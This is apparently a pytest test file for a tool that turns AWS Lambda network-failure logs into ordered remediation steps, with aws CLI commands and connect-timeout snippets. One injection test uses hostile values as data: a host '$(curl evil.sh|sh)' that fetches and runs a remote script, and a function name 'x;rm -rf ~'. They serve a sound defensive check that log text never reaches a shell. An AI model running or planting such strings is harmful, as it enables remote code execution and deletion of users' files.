"""Remediation: each entry fits its evidence, the evidence decides the order, commands are filled in."""

from __future__ import annotations

from pathlib import Path

import pytest

from checker.detect.model import Runtime
from checker.finding import Finding
from checker.remediation import ENTRIES, Remediation, docs_markdown, select
from tests.remediation.evidence import T0, finding, kernel_timeout

DOCS = Path(__file__).resolve().parents[2] / "docs" / "remediation.md"


def ids(f: Finding) -> list[str]:
    return [r.id for r in select(f)]


def entry(f: Finding, entry_id: str) -> Remediation:
    return next(r for r in select(f) if r.id == entry_id)


# One case per entry: evidence it must be chosen for, and where it must come.
CASES: dict[str, tuple[Finding, int]] = {
    "target-listening": (finding(("ECONNREFUSED", "10.0.5.20", 8080)), 0),
    "security-groups": (finding(("ETIMEDOUT", "10.0.3.47", 5432)), 0),
    "network-acls": (finding(("ENETUNREACH", "10.8.0.12", 5432)), 1),
    "flow-logs": (finding(("ETIMEDOUT", "10.0.3.47", 5432)), 2),
    "nat-route": (finding(("ETIMEDOUT", "api.stripe.com", 443)), 0),
    "gateway-endpoint": (finding(("ETIMEDOUT", "dynamodb.us-east-1.amazonaws.com", 443)), 0),
    "interface-endpoint": (finding(("ETIMEDOUT", "secretsmanager.eu-west-1.amazonaws.com", 443)), 0),
    "dns-resolution": (finding(("ENOTFOUND", "api.partner.example.com", None)), 0),
    "route-tables": (finding(("ENETUNREACH", "2600:1f18:4a3:6901::14", 443)), 0),
    "downstream-service": (finding(("ETIMEDOUT", "api.stripe.com", 443), vpc=False), 0),
    "connect-timeout": (finding(("ECONNREFUSED", "10.0.5.20", 8080), timeout=kernel_timeout()), 1),
}


def test_every_entry_has_a_case() -> None:
    assert sorted(CASES) == sorted(e.id for e in ENTRIES)


@pytest.mark.parametrize("entry_id", sorted(CASES))
def test_entry_applies_to_its_evidence(entry_id: str) -> None:
    f, position = CASES[entry_id]
    chosen = ids(f)
    assert chosen.index(entry_id) == position, chosen
    step = entry(f, entry_id)
    assert step.title and step.markdown
    for command in step.commands:
        assert command.startswith(("aws ", "curl ")) and "{" not in command, command
        assert f"```sh\n   {command}\n   ```" in step.markdown


def test_refused_leads_with_the_listening_service_and_its_security_group() -> None:
    f = finding(("ECONNREFUSED", "10.0.5.20", 8080), function="invoice-renderer")
    assert ids(f) == ["target-listening"]
    step = entry(f, "target-listening")
    assert step.title == "Check that the target is up and listening on port 8080"
    assert step.commands == (
        "aws lambda get-function-configuration --function-name invoice-renderer "
        "--query Environment.Variables",
        "aws ec2 describe-network-interfaces --filters Name=addr.private-ip-address,Values=10.0.5.20 "
        "--query 'NetworkInterfaces[].[Description,Status,Groups]'",
        "aws rds describe-db-instances --query "
        "'DBInstances[].[DBInstanceIdentifier,DBInstanceStatus,Endpoint.Address,Endpoint.Port]'",
        "aws ec2 describe-security-groups --group-ids TARGET_SG_ID --query 'SecurityGroups[].IpPermissions'",
    )


def test_timeout_to_a_private_address_leads_with_security_groups_then_nacls() -> None:
    f = finding(("ETIMEDOUT", "10.0.3.47", 5432), subnet="subnet-0a1b2c3d")
    assert ids(f) == ["security-groups", "network-acls", "flow-logs", "connect-timeout"]
    assert entry(f, "security-groups").commands[0] == (
        "aws lambda get-function-configuration --function-name orders-api --query VpcConfig"
    )
    acls = entry(f, "network-acls")
    assert acls.commands[0] == (
        "aws ec2 describe-network-acls --filters "
        "Name=association.subnet-id,Values=subnet-0a1b2c3d --query 'NetworkAcls[].Entries'"
    )
    assert "1024-65535" in acls.title and "stateless" in acls.markdown


def test_flow_log_query_covers_the_failure_window() -> None:
    query = entry(finding(("ETIMEDOUT", "10.0.3.47", 5432)), "flow-logs").commands[1]
    start, end = T0 // 1000 - 300, (T0 + 3_600_000) // 1000 + 300
    assert f"--start-time {start} --end-time {end}" in query
    assert query.endswith(
        '\'fields interfaceId, action | filter dstAddr = "10.0.3.47" and dstPort = 5432 '
        "| stats count() by interfaceId, action'"
    )


def test_public_destination_from_a_vpc_function_leads_with_the_nat_route() -> None:
    f = finding(("ETIMEDOUT", "api.stripe.com", 443))
    assert ids(f) == ["nat-route", "security-groups", "network-acls", "connect-timeout", "downstream-service"]
    nat = entry(f, "nat-route")
    assert (
        "aws ec2 describe-route-tables --filters Name=association.subnet-id,Values=SUBNET_ID "
        "--query 'RouteTables[].Routes'" in nat.commands
    )
    assert "`0.0.0.0/0`" in nat.markdown and "Elastic IP" in nat.markdown


def test_api_gateway_is_reached_through_nat_not_an_endpoint() -> None:
    # execute-api private DNS would send every public API to the VPC endpoint and break them
    assert ids(finding(("ETIMEDOUT", "a1b2c3.execute-api.us-east-1.amazonaws.com", 443)))[0] == "nat-route"


def test_vpc_unknown_public_destination_still_checks_the_nat_route_first() -> None:
    assert ids(finding(("ETIMEDOUT", "api.stripe.com", 443), vpc=None))[0] == "nat-route"


def test_public_destination_outside_a_vpc_points_at_the_service() -> None:
    f = finding(("ETIMEDOUT", "api.stripe.com", 443), vpc=False)
    assert ids(f) == ["downstream-service", "connect-timeout"]
    assert entry(f, "downstream-service").commands[1] == (
        "curl -sv --connect-timeout 3 -o /dev/null https://api.stripe.com:443/"
    )


@pytest.mark.parametrize(
    ("host", "service", "region"),
    [
        ("dynamodb.us-east-1.amazonaws.com", "dynamodb", "us-east-1"),
        ("my-bucket.s3.eu-west-1.amazonaws.com", "s3", "eu-west-1"),
    ],
)
def test_s3_and_dynamodb_lead_with_a_free_gateway_endpoint(host: str, service: str, region: str) -> None:
    f = finding(("ETIMEDOUT", host, 443))
    assert ids(f)[:2] == ["gateway-endpoint", "nat-route"]
    gateway = entry(f, "gateway-endpoint")
    assert gateway.title.endswith("(free)")
    assert gateway.commands[1] == (
        "aws ec2 create-vpc-endpoint --vpc-endpoint-type Gateway --vpc-id VPC_ID "
        f"--service-name com.amazonaws.{region}.{service} --route-table-ids RTB_ID"
    )


def test_other_aws_services_lead_with_an_interface_endpoint_and_its_price() -> None:
    f = finding(("ETIMEDOUT", "secretsmanager.eu-west-1.amazonaws.com", 443), subnet="subnet-0a1b2c3d")
    assert ids(f)[:2] == ["interface-endpoint", "nat-route"]
    interface = entry(f, "interface-endpoint")
    assert interface.title == "Add an interface VPC endpoint for Secrets Manager"
    assert "about $0.01 per hour per Availability Zone" in interface.markdown
    assert interface.commands[1] == (
        "aws ec2 create-vpc-endpoint --vpc-endpoint-type Interface --vpc-id VPC_ID "
        "--service-name com.amazonaws.eu-west-1.secretsmanager --subnet-ids subnet-0a1b2c3d "
        "--security-group-ids ENDPOINT_SG_ID --private-dns-enabled"
    )


def test_dns_failure_leads_with_the_resolver_and_dhcp_options() -> None:
    f = finding(("ENOTFOUND", "api.partner.example.com", None))
    assert ids(f) == ["dns-resolution"]
    dns = entry(f, "dns-resolution")
    assert dns.commands[:2] == (
        "aws ec2 describe-vpc-attribute --vpc-id VPC_ID --attribute enableDnsSupport",
        "aws ec2 describe-dhcp-options --dhcp-options-ids DOPT_ID --query 'DhcpOptions[].DhcpConfigurations'",
    )
    assert "`10.0.0.2`" in dns.markdown and "AmazonProvidedDNS" in dns.markdown


def test_unreachable_leads_with_route_tables_and_nacls() -> None:
    assert ids(finding(("ENETUNREACH", "10.8.0.12", 5432))) == ["route-tables", "network-acls"]
    ipv6 = finding(("ENETUNREACH", "2600:1f18:4a3:6901::14", 443))
    assert ids(ipv6) == ["route-tables", "nat-route", "network-acls"]
    assert "Ipv6AllowedForDualStack" in entry(ipv6, "route-tables").markdown


def test_secondary_destinations_add_their_steps_after_the_primary_ones() -> None:
    f = finding(
        ("ETIMEDOUT", "10.0.3.47", 5432),
        ("ENOTFOUND", "cache.internal", 6379),
        ("ECONNREFUSED", "10.0.5.20", 8080),
    )
    assert ids(f) == [
        "security-groups",
        "network-acls",
        "flow-logs",
        "connect-timeout",
        "dns-resolution",
        "target-listening",
    ]
    # each entry is filled in for the destination that called for it
    assert "Values=10.0.5.20" in entry(f, "target-listening").commands[1]


@pytest.mark.parametrize(
    ("runtime", "host", "port", "library", "snippet"),
    [
        ("nodejs", "10.0.3.47", 5432, "pg", "connectionTimeoutMillis: 3000"),
        (
            "nodejs",
            "dynamodb.us-east-1.amazonaws.com",
            443,
            "AWS SDK v3",
            "requestHandler: new NodeHttpHandler({ connectionTimeout: 3000",
        ),
        ("nodejs", "api.stripe.com", 443, "fetch (undici)", "new Agent({ connect: { timeout: 3000 } })"),
        ("python", "10.0.3.47", 5432, "psycopg2 / psycopg", "connect_timeout=3"),
        ("python", "dynamodb.us-east-1.amazonaws.com", 443, "botocore", "Config(connect_timeout=3,"),
        ("python", "api.stripe.com", 443, "requests", "timeout=(3.05, 27)"),
        ("python", "cache.internal", 6379, "redis-py", "socket_connect_timeout=3"),
        (
            "java",
            "sts.us-east-1.amazonaws.com",
            443,
            "AWS SDK v2",
            "connectionTimeout(Duration.ofSeconds(3))",
        ),
        ("go", "api.stripe.com", 443, "net/http", "net.Dialer{Timeout: 3 * time.Second}"),
    ],
)
def test_connect_timeout_snippet_fits_runtime_and_service(
    runtime: Runtime, host: str, port: int, library: str, snippet: str
) -> None:
    step = entry(finding(("ETIMEDOUT", host, port), runtime=runtime), "connect-timeout")
    assert step.snippets[0][0] == library and snippet in step.snippets[0][1]
    assert snippet in step.markdown


def test_connect_timeout_states_the_inferred_timeout_and_the_saving() -> None:
    step = entry(
        finding(("ETIMEDOUT", "10.0.3.47", 5432), timeout=kernel_timeout(attempts=3)), "connect-timeout"
    )
    assert (
        "Here the failing invocations waited about 127.3 s x 3 attempts before giving up. A 3 s connect "
        "timeout would have saved about 1,243 billed seconds ($0.0104)."
    ) in step.markdown


def test_unknown_runtime_gets_node_and_python_examples() -> None:
    step = entry(finding(("ETIMEDOUT", "10.0.3.47", 5432), runtime="unknown"), "connect-timeout")
    assert [library for library, _ in step.snippets] == ["pg", "psycopg2 / psycopg"]


def test_no_connect_timeout_entry_without_a_timeout() -> None:
    assert "connect-timeout" not in ids(finding(("ENOTFOUND", "api.partner.example.com", None)))


def test_log_text_never_reaches_a_shell_command() -> None:
    f = finding(("ECONNREFUSED", "$(curl evil.sh|sh)", 5432), function="x;rm -rf ~")
    for step in select(f):
        for command in step.commands:
            assert "$(" not in command and ";rm" not in command and "|sh" not in command
    assert "--function-name FUNCTION_NAME" in entry(f, "target-listening").commands[0]
    globbed = finding(("ETIMEDOUT", "db[1-9]*.internal", 5432))
    assert "Values=IP_ADDRESS" in entry(globbed, "security-groups").commands[2]


def test_unknown_function_keeps_placeholders() -> None:
    f = finding(("ETIMEDOUT", "10.0.3.47", 5432), function=None)
    assert entry(f, "security-groups").commands[0] == (
        "aws lambda get-function-configuration --function-name FUNCTION_NAME --query VpcConfig"
    )


def test_docs_are_generated_from_the_table() -> None:
    assert DOCS.read_text(encoding="utf-8") == docs_markdown(), (
        "docs/remediation.md is stale: python -m checker.remediation > docs/remediation.md"
    )


def test_a_wrapper_line_without_host_does_not_hide_the_destination() -> None:
    # Java: "Caused by: java.net.ConnectException: Connection refused" is the most frequent message,
    # pgjdbc's "Connection to 10.0.4.12:5432 refused" names the destination.
    f = finding(("ECONNREFUSED", None, None), ("ECONNREFUSED", "10.0.4.12", 5432), runtime="java")
    step = entry(f, "target-listening")
    assert step.title == "Check that the target is up and listening on port 5432"
    assert "Values=10.0.4.12" in step.commands[1]
